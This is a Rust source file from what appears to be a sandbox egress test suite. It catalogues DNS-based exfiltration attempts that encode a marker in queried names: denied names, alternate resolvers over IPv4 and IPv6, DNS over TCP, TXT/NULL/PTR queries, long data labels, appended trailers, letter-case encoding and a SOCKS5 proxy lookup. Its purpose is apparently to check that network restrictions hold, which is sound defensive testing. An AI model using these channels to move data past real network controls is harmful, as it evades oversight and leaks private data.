//! Names that are nobody's business outside, in questions: whoever owns a name hears what is asked
//! below it. T43

use std::io::{Read, Write};
use std::net::IpAddr;

use super::client::{Route, ask, dial, if_works};
use super::on_usual;
use crate::attack::{Attack, Outcome, Refused, Scene};
use crate::world::{
    ALLOWED, ALLOWED6, DENIED, DENIED6, DNS_PORT, HTTP_PORT, Question, read_addresses,
};

/// The name of the attack whose mark is the case of letters.
pub(crate) const CASE_CHANNEL: &str = "question-in-capitals";

pub(crate) const ATTACKS: &[Attack] = &[
    on_usual("T43", "denied-question", "asks for a name that no entry names", |scene| {
        asks(scene, ALLOWED.into(), |mark| one(&Question::v4(&format!("{mark}.other.example"))))
    }),
    on_usual("T43", "denied-question-v6", "asks for its IPv6 address", |scene| {
        asks(scene, ALLOWED.into(), |mark| one(&Question::v6(&format!("{mark}.other.example"))))
    }),
    on_usual("T43", "question-elsewhere", "asks another resolver", |scene| {
        asks(scene, DENIED.into(), |mark| one(&Question::v4(&format!("{mark}.other.example"))))
    }),
    on_usual("T43", "question-elsewhere-v6", "asks one by IPv6", |scene| {
        asks(scene, DENIED6.into(), |mark| one(&Question::v4(&format!("{mark}.other.example"))))
    }),
    on_usual("T43", "question-on-connection", "asks one on a connection", |scene| {
        if_works(questions_work(), || on_connection(scene, ALLOWED.into()))
    }),
    on_usual("T43", "question-on-connection-elsewhere", "asks another one on one", |scene| {
        if_works(questions_work(), || on_connection(scene, ALLOWED6.into()))
    }),
    on_usual("T43", "question-for-text", "asks for texts below a wildcard", |scene| {
        asks(scene, ALLOWED.into(), |mark| one(&Question::text(&format!("{mark}.wild.example"))))
    }),
    on_usual("T43", "question-for-anything", "asks for records without meaning", |scene| {
        asks(scene, ALLOWED.into(), |mark| {
            one(&Question { name: &format!("{mark}.wild.example"), kind: NULL })
        })
    }),
    on_usual("T43", "question-below-name", "asks below a name without wildcard", |scene| {
        asks(scene, ALLOWED.into(), |mark| one(&Question::v4(&format!("{mark}.web.example"))))
    }),
    on_usual("T43", "question-of-one-label", "asks for a name that domains are put behind", {
        |scene| asks(scene, ALLOWED.into(), |mark| one(&Question::v4(mark)))
    }),
    on_usual("T43", "question-with-long-labels", "asks for a name full of data", |scene| {
        asks(scene, ALLOWED.into(), |mark| {
            let data = "d".repeat(60);
            one(&Question::v4(&format!("{data}.{data}.{mark}.other.example")))
        })
    }),
    on_usual("T43", "two-questions", "asks a second question behind an allowed one", |scene| {
        asks(scene, ALLOWED.into(), |mark| {
            let name = format!("{mark}.other.example");
            Question::message(&[Question::v4("web.example"), Question::v4(&name)], b"")
        })
    }),
    on_usual("T43", "question-with-option", "says more beside an allowed question", |scene| {
        asks(scene, ALLOWED.into(), |mark| {
            let text = format!(";{mark};");
            Question::message(&[Question::v4("good.wild.example")], text.as_bytes())
        })
    }),
    on_usual("T43", "question-with-trailer", "says more behind one", |scene| {
        asks(scene, ALLOWED.into(), |mark| {
            let question = one(&Question::v4("good.wild.example"));
            [question, format!("{mark};").into_bytes()].concat()
        })
    }),
    on_usual("T43", "question-for-address", "asks for the name of an address", |scene| {
        asks(scene, ALLOWED.into(), |mark| {
            one(&Question { name: &format!("{mark}.3.113.0.203.in-addr.arpa"), kind: POINTER })
        })
    }),
    on_usual("T43", CASE_CHANNEL, "says something by the case of letters", |scene| {
        // Another name than those that are asked for before: what is known is not asked again.
        asks(scene, ALLOWED.into(), |_| one(&Question::v4("CaSe.wIlD.eXaMpLe")))
    }),
    on_usual("T43", "question-at-dial", "has a proxy look a denied name up", |scene| {
        let name = format!("{}.other.example", scene.mark());
        Route::Socks5.then(|| {
            Route::Socks5.open(name.as_bytes(), HTTP_PORT)?;
            Ok(Outcome::Attempted("the proxy connected".to_owned()))
        })
    }),
];

/// Asks what `message` makes of the mark, if allowed questions are answered.
fn asks(
    scene: &Scene<'_>,
    resolver: IpAddr,
    message: fn(&str) -> Vec<u8>,
) -> Result<Outcome, Refused> {
    if_works(questions_work(), || {
        let answer = ask(&message(scene.mark()), resolver)?;
        Ok(Outcome::Attempted(match read_addresses(&answer) {
            Some(addresses) => format!("asked, and was told of {} addresses", addresses.len()),
            None => "asked, and was refused".to_owned(),
        }))
    })
}

fn on_connection(scene: &Scene<'_>, resolver: IpAddr) -> Result<Outcome, Refused> {
    let message = one(&Question::v4(&format!("{}.other.example", scene.mark())));
    let length = u16::try_from(message.len()).map_err(|error| Refused(error.to_string()))?;
    let mut stream = dial((resolver, DNS_PORT))?;
    stream.write_all(&[length.to_be_bytes().as_slice(), &message].concat())?;
    let mut answer = [0; 2];
    stream.read_exact(&mut answer)?;
    Ok(Outcome::Attempted("asked, and was answered".to_owned()))
}

fn questions_work() -> Result<(), Refused> {
    let answer = ask(&one(&Question::v4("web.example")), ALLOWED.into())?;
    match read_addresses(&answer).as_deref() {
        Some([_, ..]) => Ok(()),
        _ => Err(Refused("the allowed name has no address".to_owned())),
    }
}

fn one(question: &Question<'_>) -> Vec<u8> {
    Question::message(&[*question], b"")
}

const NULL: u16 = 10;
const POINTER: u16 = 12;
